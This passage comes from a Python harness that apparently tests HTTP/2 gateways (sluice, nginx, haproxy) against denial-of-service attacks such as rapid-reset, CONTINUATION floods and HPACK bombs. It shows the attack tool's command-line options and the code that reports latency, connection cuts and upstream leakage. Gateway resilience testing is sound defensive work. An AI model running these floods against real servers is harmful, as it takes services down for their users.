    p.add_argument("--tls", action="store_true",
                   help="TLS with ALPN h2 instead of h2c prior knowledge")
    p.add_argument("--conns", type=int, default=None,
                   help="connections at once (default: 4; zero-window 32, "
                        "slow-streams 20, stream-ids 2)")
    p.add_argument("--streams", type=int, default=None,
                   help="streams held per connection by zero-window (20) "
                        "and slow-streams (1000; at most the gateway's "
                        "SETTINGS_MAX_CONCURRENT_STREAMS)")
    p.add_argument("--interval", type=float, default=1.0,
                   help="slow-streams: seconds between a stream's 1-byte "
                        "DATA frames (+-50 %%)")
    p.add_argument("--refs", type=int, default=0,
                   help="hpack-bomb: references per HEADERS (default: as "
                        "many as fill a 16 KiB frame)")
    p.add_argument("--inflight", type=int, default=16,
                   help="hpack-bomb: streams in flight per connection")
    p.add_argument("--ahead", type=int, default=256 * 1024,
                   help="bytes sent but not yet read by the gateway, at "
                        "most (its socket's counters, by sock_diag); 0: "
                        "no limit, and no count of the bytes read")
    p.add_argument("--duration", type=float, default=30.0)
    p.add_argument("--out", help="write the JSON summary here as well")
    a = p.parse_args()
    if a.scenario == "cpuhog":
        cpuhog(a)
        return 0
    if not a.port:
        p.error("--port is required")
    if a.conns is None:
        a.conns = DEFAULT_CONNS.get(a.scenario, 4)
    if a.streams is None:
        a.streams = DEFAULT_STREAMS.get(a.scenario, 1)
    att = Attacker(a)

    def stop(*_):
        att.stop = True
    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    att.run()
    s = json.dumps(att.stats.summary(), sort_keys=True)
    if a.out:
        with open(a.out + ".tmp", "w") as f:
            f.write(s + "\n")
        os.replace(a.out + ".tmp", a.out)
    print(s)
    sys.stdout.flush()
    return 0


# ---- reports for contrib/h2attack.sh ------------------------------------
# "report-run DIR": one measurement's files (info.txt, h2load.txt and
# h2load.log, attack.json, m0.txt and m1.txt, upstream-atk.log, gw.err,
# error.log) -> DIR/summary.json and a line on stdout.
# "report RUNS": the summaries of RUNS/*/ -> markdown tables on stdout.

ORDER = ["baseline", "rapid-reset", "continuation", "settings", "ping",
         "priority", "window-update", "empty-data", "hpack-bomb",
         "stream-ids", "zero-window", "slow-streams", "cpuhog"]
GATEWAYS = ["sluice", "nginx", "haproxy"]
# attacks whose requests must never reach the upstream
NO_UPSTREAM = {"rapid-reset", "continuation", "settings", "ping", "priority",
               "window-update", "hpack-bomb"}
# attacks on a connection: stopped when no connection is still being read
CONN_ATTACKS = {"rapid-reset", "continuation", "settings", "ping", "priority",
                "window-update", "empty-data"}
P99_LIMIT = 3.0


def _kv(path):
    d = {}
    try:
        for line in open(path):
            if "=" in line:
                k, v = line.rstrip("\n").split("=", 1)
                d[k] = v
    except OSError:
        pass
    return d


def _metrics(path):
    d = {}
    try:
        for line in open(path):
            if line.startswith("sluice_http2_refused_total{reason=\""):
                k, v = line.split()
                d[k.split('"')[1]] = int(float(v))
    except OSError:
        pass
    return d


def _pct(v, q):
    if not v:
        return None
    i = min(len(v) - 1, max(0, int(round(q / 100.0 * len(v) + 0.5)) - 1))
    return v[i]


def report_run(d):
    import re
    info = _kv(os.path.join(d, "info.txt"))
    out = {k: info.get(k) for k in ("gateway", "scenario", "round")}
    out["round"] = int(out["round"] or 0)
    out["alive"] = info.get("alive") == "1"
    # the normal traffic
    text = ""
    try:
        text = open(os.path.join(d, "h2load.txt"), errors="replace").read()
    except OSError:
        pass
    m = re.search(r"^requests: (\d+) total, (\d+) started, (\d+) done, (\d+) succeeded, "
                  r"(\d+) failed, (\d+) errored, (\d+) timeout", text, re.M)
    st = re.search(r"^status codes: (\d+) 2xx, (\d+) 3xx, (\d+) 4xx, (\d+) 5xx", text, re.M)
    times, failed = [], 0
    try:
        for line in open(os.path.join(d, "h2load.log"), errors="replace"):
            f = line.split("\t")
            if len(f) < 3:
                continue
            code = f[1].strip()
            if code == "-1" or not code.startswith("2"):
                failed += 1
            else:
                times.append(int(f[2]) / 1000.0)
    except OSError:
        pass
    n = len(times) + failed
    times.sort()
    inf = float("inf")
    allv = times + [inf] * failed
    out["requests"] = n
    out["rps"] = round(n / float(info.get("duration") or 1), 1)
    out["failed"] = failed + (int(m.group(5)) + int(m.group(6)) if m else 0)
    out["non2xx"] = (int(st.group(3)) + int(st.group(4))) if st else 0
    out["p50"] = _pct(allv, 50)
    out["p99"] = _pct(allv, 99)
    out["h2load_ok"] = bool(m) and n > 0
    # the gateway
    hz = float(info.get("hz") or 100)
    out["rss_end_mib"] = round(int(info.get("rss_end_kib") or 0) / 1024.0, 1)
    out["rss_peak_mib"] = round(int(info.get("rss_peak_kib") or 0) / 1024.0, 1)
    out["cpu_pct"] = round(int(info.get("cpu_ticks") or 0) / hz
                           / float(info.get("duration") or 1) * 100, 0)
    out["load"] = info.get("load")
    out["attack_s"] = float(info.get("attack_s") or 0)
    out["timeout_s"] = float(info.get("timeout_s") or 0)
    m0, m1 = _metrics(os.path.join(d, "m0.txt")), _metrics(os.path.join(d, "m1.txt"))
    out["refused"] = {k: v - m0.get(k, 0) for k, v in m1.items() if v - m0.get(k, 0)}
    issues, lines = [], 0
    for name in ("gw.err", "error.log"):
        try:
            for line in open(os.path.join(d, name), errors="replace"):
                line = line.rstrip("\n")
                if not line:
                    continue
                lines += 1
                if out["gateway"] == "sluice":
                    bad = re.search(r"\b(warn|error|crit|fatal)\b", line.split(" ", 2)[1]
                                    if " " in line else line)
                elif out["gateway"] == "nginx":
                    bad = re.search(r"\[(error|crit|alert|emerg)\]", line)
                else:
                    bad = not re.search(r"haproxy version is|path to executable is|"
                                        r"Cannot raise FD limit|FD limit|"
                                        r"\[NOTICE\]|\[WARNING\].*(maxconn|ulimit|FD)", line)
                if bad:
                    issues.append(line[:300])
        except OSError:
            pass
    out["log_lines"] = lines
    out["log_issues"] = len(issues)
    out["log_issue_sample"] = sorted(set(re.sub(r"conn=\d+|peer=\S+|stream=\d+|\d{4}-\d\d-\d\dT\S+", "", i)
                                         for i in issues))[:5]
    # the upstream
    ups = {}
    try:
        for line in open(os.path.join(d, "upstream-atk.log")):
            f = line.split()
            if len(f) >= 4:
                ups[f[3]] = ups.get(f[3], 0) + 1
    except OSError:
        pass
    out["upstream"] = sum(ups.values())
    out["upstream_status"] = ups
    out["upstream_busy_after"] = info.get("upstream_busy_after")
    # the attacker
    try:
        out["attack"] = json.load(open(os.path.join(d, "attack.json")))
    except (OSError, ValueError):
        out["attack"] = None
    with open(os.path.join(d, "summary.json"), "w") as f:
        json.dump(out, f, sort_keys=True)
    a = out["attack"] or {}
    print("%s %s %-7s r%d: p50 %s p99 %s ms, %s req/s, %d failed; attack: %s conns, %s cut "
          "(median %s s, %s read), %s still going; upstream %d; RSS %s/%s MiB, CPU %d%%%s%s" % (
              time.strftime("%H:%M:%S"), "%-13s" % out["scenario"], out["gateway"], out["round"],
              _ms(out["p50"]), _ms(out["p99"]), out["rps"], out["failed"],
              a.get("conns", "-"), a.get("cut", "-"), a.get("cut_secs_median", "-"),
              _bytes(a.get("cut_bytes_median")), a.get("still_going", "-"),
              out["upstream"], out["rss_end_mib"], out["rss_peak_mib"], out["cpu_pct"],
              "; refused " + _refused(out["refused"]) if out["refused"] else "",
              "; %d log issues" % out["log_issues"] if out["log_issues"] else ""))
    return 0


def _x(v, digits=2):
    if v is None:
        return "-"
    return "inf" if v == float("inf") else "%.*f" % (digits, v)


def _ms(v):
    if v is None:
        return "-"
    if v == float("inf"):
        return "inf"
    return "%.2f" % v if v < 10 else "%.1f" % v if v < 100 else "%.0f" % v


def _bytes(v):
    if v is None:
        return "-"
    for unit, k in (("GB", 1e9), ("MB", 1e6), ("kB", 1e3)):
        if v >= k:
            return "%.1f %s" % (v / k, unit) if v < 100 * k else "%.0f %s" % (v / k, unit)
    return "%d B" % v


def _read(a, k):
    """Bytes read, "<=" when for most connections only the bytes the
    gateway's kernel acknowledged are known (its socket was gone)."""
    v = _bytes(a.get(k))
    if a.get("read_upper_bound", 0) * 2 > max(a.get("cut", 0), 1) and v != "-":
        v = "<=" + v
    return v


def _refused(d):
    return " ".join("%s=%d" % (k, v) for k, v in sorted(d.items(), key=lambda x: -x[1]))


def _detail(sc, a):
    """What the attacker got, in a few words."""
    if not a:
        return ""
    n = a.get("notes", {})
    st = a.get("statuses", {})
    rst = a.get("rst_recv", {})
    w = []
    if sc == "hpack-bomb":
        w.append("%d bombs sent" % a.get("requests", 0))
    elif sc in ("stream-ids", "zero-window", "slow-streams", "empty-data"):
        w.append("%d requests sent" % a.get("requests", 0))
    if st:
        w.append("answers " + " ".join("%s:%d" % kv for kv in sorted(st.items())))
    if rst:
        w.append("RST_STREAM " + " ".join("%s:%d" % kv for kv in sorted(rst.items())))
    if sc == "stream-ids":
        used = n.get("ids_used_up_without_goaway", 0)
        w.append("ids used up without GOAWAY: %d" % used)
        if "highest_id_answered" in n:
            w.append("highest id answered %d" % n["highest_id_answered"])
    if n.get("streams_reopened"):
        w.append("streams reopened %d" % n["streams_reopened"])
    if n.get("no_answer_in_5s"):
        w.append("no answer in 5 s: %d" % n["no_answer_in_5s"])
    ends = a.get("ends", {})
    if ends:
        w.append("ends " + " ".join("%s:%d" % (k.replace("goaway_", "GOAWAY "), v)
                                    for k, v in sorted(ends.items())))
    return "; ".join(w)


def _ratio(r, ref):
    if ref is None or r.get("p99") is None or not ref.get("p99"):
        return None
    return r["p99"] / ref["p99"] if r["p99"] != float("inf") else float("inf")


def verdicts(sc, r, base, hog=None):
    """(p99 / baseline p99, p99 / reference p99, p99 ok, stopped, upstream
    ok) for one summary, None = not judged. The reference is the larger p99
    of the baseline and of cpuhog (no attack, the attacker's CPU taken by
    a busy loop) of the same gateway and round."""
    a = r.get("attack") or {}
    ratio = _ratio(r, base)
    ref = base
    if hog is not None and sc != "cpuhog" and base is not None and \
            (hog.get("p99") or 0) > (base.get("p99") or 0):
        ref = hog
    ratio_ref = _ratio(r, ref)
    p99_ok = None if sc == "baseline" else (ratio_ref is not None and ratio_ref <= P99_LIMIT)
    stopped = None
    if sc in CONN_ATTACKS:
        # cut (or no longer read) within a second, and nothing still read
        stopped = (a.get("still_going", 1) == 0 and a.get("cut", 0) > 0
                   and (a.get("cut_secs_median") or 0) <= 1.0)
    elif sc == "hpack-bomb":
        ok2xx = sum(v for k, v in a.get("statuses", {}).items() if k.startswith("2"))
        stopped = ok2xx == 0 and r.get("upstream", 0) == 0
    elif sc == "stream-ids":
        # a GOAWAY before the ids ran out (the client then reconnects)
        stopped = a.get("notes", {}).get("ids_used_up_without_goaway", 0) == 0 and a.get("cut", 0) > 0
    elif sc == "zero-window" and r.get("attack_s", 0) > r.get("timeout_s", 0) + 1:
        # (a run shorter than send_timeout cannot tell)
        stopped = a.get("cut", 0) > 0 or sum(a.get("rst_recv", {}).values()) > 0
    upstream_ok = None
    if sc in NO_UPSTREAM:
        upstream_ok = r.get("upstream", 0) == 0
    return ratio, ratio_ref, p99_ok, stopped, upstream_ok


def _yn(v, yes="yes", no="**NO**"):
    return "-" if v is None else yes if v else no


def report(runs):
    rows = []
    for name in sorted(os.listdir(runs)):
        try:
            rows.append(json.load(open(os.path.join(runs, name, "summary.json"))))
        except (OSError, ValueError):
            pass
    inf = float("inf")
    for r in rows:
        for k in ("p50", "p99"):
            if r.get(k) is not None and r[k] > 1e300:
                r[k] = inf
    base = {(r["gateway"], r["round"]): r for r in rows if r["scenario"] == "baseline"}
    hog = {(r["gateway"], r["round"]): r for r in rows if r["scenario"] == "cpuhog"}
    scen = [s for s in ORDER if any(r["scenario"] == s for r in rows)]
    gws = [g for g in GATEWAYS if any(r["gateway"] == g for r in rows)]
    rounds = sorted(set(r["round"] for r in rows))
    by = {(r["scenario"], r["gateway"], r["round"]): r for r in rows}
    out = []
    w = out.append
    w("Columns: p50/p99 of the normal traffic (ms; failed requests count as "
      "infinitely slow), x base = p99 / the same gateway's baseline p99 in the "
      "same round, x ref = p99 / the reference p99: the larger of the "
      "baseline's and cpuhog's (no attack, the attacker's CPU taken by a "
      "busy loop; the verdict is on x ref, target: <= %g); conns = attack connections opened, cut = "
      "those the gateway ended (GOAWAY or close) with the median time from "
      "connect to cut and the median bytes the gateway had read of one by "
      "then (its socket's counters), read = all bytes the gateway read of the "
      "attack, going = connections open at the end for > 2 s that the "
      "gateway was still reading; upstream = the attack's requests the "
      "upstream saw; RSS at the end of the attack / its peak; CPU = the "
      "gateway's CPU time over the measured window." % P99_LIMIT)
    w("")
    for sc in scen:
        w("### %s" % sc)
        w("")
        if sc in ("baseline", "cpuhog"):
            w("| gateway | run | p50 ms | p99 ms | x base | req/s | failed | RSS MiB | CPU % | log lines |")
            w("|---|---|---|---|---|---|---|---|---|---|")
        else:
            w("| gateway | run | p50 ms | p99 ms | x base | x ref | failed | conns | cut | cut after s | read before cut | read | going | upstream | RSS MiB | CPU % | sluice refused | what the attacker got |")
            w("|---|---|---|---|---|---|---|---|---|---|---|---|---|---|---|---|---|---|")
        for g in gws:
            for rd in rounds:
                r = by.get((sc, g, rd))
                if r is None:
                    continue
                ratio, ratio_ref, p99_ok, stopped, up_ok = verdicts(
                    sc, r, base.get((g, rd)), hog.get((g, rd)))
                rs = _x(ratio)
                rr = _x(ratio_ref)
                if p99_ok is False:
                    rr = "**%s**" % rr
                    if sc == "cpuhog":
                        rs = "**%s**" % rs
                dead = "" if r.get("alive", True) else " **DIED**"
                if sc in ("baseline", "cpuhog"):
                    w("| %s%s | %d | %s | %s | %s | %s | %d | %s | %d | %d |" % (
                        g, dead, rd, _ms(r["p50"]), _ms(r["p99"]), rs if sc != "baseline" else "1",
                        r["rps"], r["failed"] + r["non2xx"], r["rss_end_mib"], r["cpu_pct"], r["log_lines"]))
                    continue
                a = r.get("attack") or {}
                up = str(r["upstream"])
                if up_ok is False:
                    up = "**%s**" % up
                going = str(a.get("still_going", "-"))
                if sc in CONN_ATTACKS and a.get("still_going"):
                    going = "**%s**" % going
                w("| %s%s | %d | %s | %s | %s | %s | %d | %s | %s | %s | %s | %s | %s | %s | %s/%s | %d | %s | %s |" % (
                    g, dead, rd, _ms(r["p50"]), _ms(r["p99"]), rs, rr, r["failed"] + r["non2xx"],
                    a.get("conns", "-"), a.get("cut", "-"),
                    "-" if a.get("cut_secs_median") is None else a["cut_secs_median"],
                    _read(a, "cut_bytes_median"), _read(a, "bytes_read_by_gateway"),
                    going, up, r["rss_end_mib"], r["rss_peak_mib"], r["cpu_pct"],
                    _refused(r["refused"]) or "-", _detail(sc, a)))
        w("")
    # verdicts
    w("### Verdicts")
    w("")
    w("Per gateway and run: p99 within %gx of the reference p99 (x ref); stopped = "
      "for attacks on a connection, connections cut within 1 s (median) and "
      "none open for > 2 s still being read; hpack-bomb: no bomb answered "
      "2xx or forwarded; stream-ids: "
      "a GOAWAY before the ids ran out; zero-window: held streams reset or "
      "connections closed within the run (not judged in a run shorter than "
      "send_timeout); upstream = none of the attack's "
      "requests forwarded where none should be." % P99_LIMIT)
    w("")
    w("| scenario | " + " | ".join(gws) + " |")
    w("|---|" + "---|" * len(gws))
    fails = {g: [] for g in gws}
    for sc in scen:
        if sc == "baseline":
            continue
        cells = []
        for g in gws:
            parts = []
            for rd in rounds:
                r = by.get((sc, g, rd))
                if r is None:
                    continue
                ratio, ratio_ref, p99_ok, stopped, up_ok = verdicts(
                    sc, r, base.get((g, rd)), hog.get((g, rd)))
                bits = ["p99 %s (x%s)" % ("ok" if p99_ok else "**FAIL**", _x(ratio_ref, 1))]
                if stopped is not None:
                    bits.append("%s %s" % ("GOAWAY" if sc == "stream-ids" else "stopped",
                                           _yn(stopped)))
                if up_ok is not None:
                    bits.append("upstream %s" % ("0" if up_ok else "**%d**" % r["upstream"]))
                if not r.get("alive", True):
                    bits.append("**DIED**")
                if r.get("log_issues"):
                    bits.append("**%d log issues**" % r["log_issues"])
                if sc == "cpuhog":
                    bits = ["p99 x%s of the baseline (no attack)" % _x(ratio, 1)]
                parts.append(", ".join(bits))
                if sc != "cpuhog" and (p99_ok is False or stopped is False or up_ok is False
                        or not r.get("alive", True) or r.get("log_issues")):
                    fails[g].append("%s r%d" % (sc, rd))
            cells.append("<br>".join(parts) or "-")
        w("| %s | %s |" % (sc, " | ".join(cells)))
    w("")
    for g in gws:
        w("- %s: %s" % (g, "every target met" if not fails[g] else
                        "targets missed in " + ", ".join(fails[g])))
    issues = [(r["gateway"], r["scenario"], r["round"], i) for r in rows
              for i in r.get("log_issue_sample", [])]
    if issues:
        w("")
        w("Gateway log lines at warn or above (a sample, per run):")
        w("")
        for g, sc, rd, i in issues[:30]:
            w("- %s %s r%d: `%s`" % (g, sc, rd, i.strip()))
    print("\n".join(out))
    return 0


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "report-run":
        sys.exit(report_run(sys.argv[2]))
    if len(sys.argv) == 3 and sys.argv[1] == "report":
        sys.exit(report(sys.argv[2]))
    sys.exit(main())
